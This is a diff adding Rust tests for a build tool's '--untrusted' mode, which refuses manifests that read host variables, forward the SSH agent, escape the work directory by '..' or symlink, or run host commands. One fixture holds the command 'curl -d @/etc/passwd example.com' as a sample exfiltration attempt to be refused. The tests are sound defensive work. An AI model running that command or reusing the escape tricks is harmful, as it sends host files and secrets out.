@@ -8,6 +8,7 @@ use std::path::{Path, PathBuf};
 
 use habitus::manifest::{
     load, parse, Artifact, Diagnostics, EnvSource, LoadOptions, Loaded, SchemaVersion, SecretSpec,
+    Untrusted,
 };
 use habitus::model::SecretKind;
 use tempfile::TempDir;
@@ -49,6 +50,7 @@ fn check_with(
             workdir: dir,
             env,
             sec_providers,
+            untrusted: None,
         },
     )
 }
@@ -886,6 +888,7 @@ fn load_reads_the_file_and_names_it_as_given() {
         workdir: dir.path(),
         env: &env,
         sec_providers: &providers,
+        untrusted: None,
     };
     let err = load(&opts).expect_err("unknown key");
     assert!(err.to_string().starts_with(&format!(
@@ -922,6 +925,7 @@ fn oversized_and_non_utf8_files_are_rejected() {
         workdir: dir.path(),
         env: &env,
         sec_providers: &providers,
+        untrusted: None,
     };
     let err = load(&LoadOptions { file: &big, ..opts }).expect_err("too large");
     assert!(err.to_string().ends_with("the file is larger than 1 MiB\n  help: a build.yml describes steps; keep data in the build context"));
@@ -1389,6 +1393,218 @@ fn check_strict_fails_on_secrets_passed_as_build_args_or_env() {
         .run();
     out.assert_success();
     assert!(!out.stderr.contains("warning"), "{}", out.stderr);
+}
+
+/// Parses `yml` as `build.yml` in `dir` as `--untrusted` does: `_env()`
+/// reads only `env` (the `--env` pairs), with the allowances `untrusted`.
+fn check_untrusted(
+    dir: &Path,
+    yml: &str,
+    env: &[(&str, &str)],
+    untrusted: &Untrusted,
+) -> Result<Loaded, Diagnostics> {
+    let env = EnvSource::Given(
+        env.iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect(),
+    );
+    parse(
+        yml,
+        &LoadOptions {
+            file: Path::new("build.yml"),
+            workdir: dir,
+            env: &env,
+            sec_providers: &providers(),
+            untrusted: Some(untrusted),
+        },
+    )
+}
+
+/// A build.yml that reaches the host in every way `--untrusted` refuses:
+/// a host variable, a file outside the work directory by `..`, one by a
+/// symlink inside the work directory, the SSH agent and a host command.
+const REACHES_THE_HOST: &str = "\
+build:
+  version: 2016-03-14
+  steps:
+    app:
+      name: app
+      dockerfile: Dockerfile
+      args: { WHO: _env(USER) }
+      ssh: true
+      secrets:
+        up: { type: file, value: ../outside/key }
+        link: { type: file, value: innocent }
+        inside: { type: file, value: keys/deploy }
+      after_build_command: curl -d @/etc/passwd example.com
+";
+
+/// A work directory `work/` for [`REACHES_THE_HOST`] beside `outside/key`,
+/// with `work/innocent` a symlink to it.
+fn host_reaching_project() -> TempDir {
+    let root = tempfile::tempdir().expect("temp dir");
+    fs::create_dir_all(root.path().join("work/keys")).unwrap();
+    fs::create_dir_all(root.path().join("outside")).unwrap();
+    fs::write(root.path().join("work/Dockerfile"), "FROM scratch\n").unwrap();
+    fs::write(root.path().join("work/keys/deploy"), "inside").unwrap();
+    fs::write(root.path().join("outside/key"), "host secret").unwrap();
+    std::os::unix::fs::symlink(
+        root.path().join("outside/key"),
+        root.path().join("work/innocent"),
+    )
+    .unwrap();
+    root
+}
+
+#[test]
+fn untrusted_refuses_every_host_access_at_its_position_naming_its_flag() {
+    let root = host_reaching_project();
+    let work = root.path().join("work");
+    let outside = fs::canonicalize(root.path().join("outside")).unwrap();
+    let err =
+        check_untrusted(&work, REACHES_THE_HOST, &[], &Untrusted::default()).expect_err("refused");
+    let key = outside.join("key");
+    assert_eq!(
+        err.to_string(),
+        format!(
+            "error: build.yml:7:20: `_env(USER)` reads this machine's environment; refused with --untrusted (allow it with --env USER=VALUE)
+error: build.yml:8:7: step `app`: `ssh: true` forwards this machine's SSH agent; refused with --untrusted (allow it with --ssh)
+error: build.yml:10:34: step `app`: secret `up` reads the file `../outside/key`, which resolves to `{k}`, outside the work directory; refused with --untrusted (allow it with --secret-dir {o})
+error: build.yml:11:36: step `app`: secret `link` reads the file `innocent`, which resolves to `{k}`, outside the work directory; refused with --untrusted (allow it with --secret-dir {o})
+error: build.yml:13:7: step `app`: `after_build_command` runs `curl -d @/etc/passwd example.com` on this machine; refused with --untrusted (allow it with --after-build-commands)",
+            k = key.display(),
+            o = outside.display()
+        )
+    );
+    // Trusted, a host file is the user's to name; only a symlink that
+    // leads a path written inside out of the work directory is refused.
+    let trusted = check_with(&work, REACHES_THE_HOST, &no_env(), &providers())
+        .expect_err("the symlink")
+        .to_string();
+    assert_eq!(trusted.matches("error: ").count(), 1, "{trusted}");
+    assert!(
+        trusted.contains(
+            "secret file `innocent` leads out of the work directory through the symlink `innocent`"
+        ),
+        "{trusted}"
+    );
+}
+
+#[test]
+fn untrusted_refusals_come_with_the_other_errors_of_the_file() {
+    let root = host_reaching_project();
+    let work = root.path().join("work");
+    let yml = REACHES_THE_HOST.replace(
+        "      name: app\n",
+        "      name: app\n      dockerfiel: x\n",
+    );
+    let err = check_untrusted(&work, &yml, &[], &Untrusted::default())
+        .expect_err("refused")
+        .to_string();
+    assert!(err.contains("unknown key `dockerfiel`"), "{err}");
+    assert_eq!(err.matches("refused with --untrusted").count(), 5, "{err}");
+}
+
+#[test]
+fn each_flag_lets_its_host_access_through() {
+    let root = host_reaching_project();
+    let work = root.path().join("work");
+    let outside = root.path().join("outside");
+    let loaded = check_untrusted(
+        &work,
+        REACHES_THE_HOST,
+        &[("USER", "ci")],
+        &Untrusted {
+            secret_dirs: vec![outside.clone()],
+            ssh: true,
+            after_build_commands: true,
+        },
+    )
+    .expect("allowed");
+    let step = &loaded.manifest.steps[0];
+    assert_eq!(step.args["WHO"], "ci");
+    assert!(step.ssh);
+    assert!(step.after_build_command.is_some());
+    // What is read is the path that was checked.
+    let key = fs::canonicalize(outside.join("key")).unwrap();
+    let values: Vec<&str> = step.secrets.values().map(|s| s.value.as_str()).collect();
+    let deploy = fs::canonicalize(work.join("keys/deploy")).unwrap();
+    assert_eq!(
+        values,
+        [
+            deploy.to_str().unwrap(),
+            key.to_str().unwrap(),
+            key.to_str().unwrap()
+        ]
+    );
+    // One allowance alone leaves the other refusals.
+    let err = check_untrusted(
+        &work,
+        REACHES_THE_HOST,
+        &[],
+        &Untrusted {
+            ssh: true,
+            ..Untrusted::default()
+        },
+    )
+    .expect_err("refused")
+    .to_string();
+    assert!(!err.contains("--ssh"), "{err}");
+    assert_eq!(err.matches("refused with --untrusted").count(), 4, "{err}");
+}
+
+#[test]
+fn untrusted_secret_files_stay_inside_with_dotdot_and_symlinks_resolved() {
+    let root = host_reaching_project();
+    let work = root.path().join("work");
+    // `keys/../keys/deploy` stays inside; `keys/../../outside/key` does
+    // not; `/etc/hostname` is absolute; `gone` is missing but inside.
+    let yml = "\
+build:
+  version: 2016-03-14
+  steps:
+    app:
+      name: app
+      dockerfile: Dockerfile
+      secrets:
+        a: { type: file, value: keys/../keys/deploy }
+        b: { type: file, value: keys/../../outside/key }
+        c: { type: file, value: /etc/hostname }
+        d: { type: file, value: gone }
+";
+    let err = check_untrusted(&work, yml, &[], &Untrusted::default())
+        .expect_err("refused")
+        .to_string();
+    let lines: Vec<&str> = err.lines().collect();
+    assert_eq!(lines.len(), 2, "{err}");
+    assert!(lines[0].starts_with("error: build.yml:9:33: step `app`: secret `b` reads the file `keys/../../outside/key`, which resolves to `"), "{err}");
+    assert!(
+        lines[1].contains("secret `c` reads the file `/etc/hostname`, which resolves to `"),
+        "{err}"
+    );
+    // A --secret-dir that is not a folder is named.
+    let err = check_untrusted(
+        &work,
+        yml,
+        &[],
+        &Untrusted {
+            secret_dirs: vec![work.join("nope"), work.join("keys")],
+            ..Untrusted::default()
+        },
+    )
+    .expect_err("refused")
+    .to_string();
+    assert!(
+        err.contains(&format!(
+            "error: build.yml: --secret-dir `{}` cannot be resolved: No such file or directory",
+            work.join("nope").display()
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains("outside the work directory and every --secret-dir"),
+        "{err}"
+    );
 }
 
 #[test]
